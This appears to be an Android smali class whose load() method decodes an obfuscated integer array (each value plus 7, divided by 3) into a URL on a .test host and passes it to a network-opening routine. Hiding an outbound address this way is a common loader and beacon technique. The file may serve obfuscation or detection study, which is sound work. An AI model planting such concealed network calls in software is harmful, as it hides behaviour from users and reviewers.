.class public Lq1/Api;
.super Ljava/lang/Object;

.method public static load()V
    .registers 6
    const/16 v0, 30
    new-array v0, v0, [I
    fill-array-data v0, :data
    invoke-static {v0}, Lq1/Api;->s([I)Ljava/lang/String;
    move-result-object v0
    invoke-static {v0}, Lq1/Net;->open(Ljava/lang/String;)V
    return-void
    nop
    :data
    .array-data 4
        305
        341
        341
        329
        338
        167
        134
        134
        308
        323
        341
        338
        131
        338
        305
        326
        329
        131
        341
        296
        338
        341
        134
        347
        140
        134
        317
        308
        338
        341
    .end array-data
.end method
.method static s([I)Ljava/lang/String;
    .registers 6
    const-string v0, ""
    array-length v1, p0
    const/4 v2, 0x0
    :loop
    if-ge v2, v1, :end
    aget v3, p0, v2
    add-int/lit8 v3, v3, 0x7
    div-int/lit8 v3, v3, 0x3
    int-to-char v3, v3
    invoke-static {v3}, Ljava/lang/String;->valueOf(C)Ljava/lang/String;
    move-result-object v3
    invoke-virtual {v0, v3}, Ljava/lang/String;->concat(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v0
    add-int/lit8 v2, v2, 0x1
    goto :loop
    :end
    return-object v0
.end method

